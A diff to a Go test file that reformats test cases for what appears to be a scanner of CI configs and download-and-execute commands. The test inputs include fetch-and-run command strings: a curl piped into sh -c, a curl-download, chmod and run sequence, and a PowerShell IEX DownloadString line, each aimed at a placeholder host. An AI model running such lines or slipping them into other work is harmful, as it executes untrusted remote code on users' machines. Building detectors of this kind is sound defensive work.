@@ -202,7 +202,9 @@ func TestResourceGitLab(t *testing.T) {
 			}, "")
 		}},
 		{Name: "many_includes", Gen: func(n int) []byte {
-			return fill(n, "include:\n", func(i int) string { return fmt.Sprintf("  - remote: https://x.example/%d.yml\n  - project: g/p%d\n    file: a.yml\n", i, i) }, "")
+			return fill(n, "include:\n", func(i int) string {
+				return fmt.Sprintf("  - remote: https://x.example/%d.yml\n  - project: g/p%d\n    file: a.yml\n", i, i)
+			}, "")
 		}},
 		{Name: "variables_expansion", Gen: func(n int) []byte {
 			// One long variable used many times in one image name.
@@ -285,7 +287,9 @@ func TestResourceDownloadExec(t *testing.T) {
 		{Name: "substitutions", Gen: func(n int) []byte { return fill(n, "", repeat(`sh -c "$(curl -fsSL https://x.example)"; `), "") }},
 		{Name: "downloads_one_name", Gen: func(n int) []byte { return fill(n, "", repeat("curl -o f https://x.example; chmod +x f; ./f; "), "") }},
 		{Name: "fetchers_without_end", Gen: func(n int) []byte { return fill(n, "", repeat("curl wget "), "") }},
-		{Name: "pwsh_lines", Gen: func(n int) []byte { return fill(n, "", repeat("IEX (New-Object Net.WebClient).DownloadString('https://x.example')\n"), "") }},
+		{Name: "pwsh_lines", Gen: func(n int) []byte {
+			return fill(n, "", repeat("IEX (New-Object Net.WebClient).DownloadString('https://x.example')\n"), "")
+		}},
 		{Name: "pwsh_words_no_match", Gen: func(n int) []byte { return fill(n, "iex ", repeat("iexx-iwrr-"), "") }},
 	} {
 		t.Run(g.Name, func(t *testing.T) {
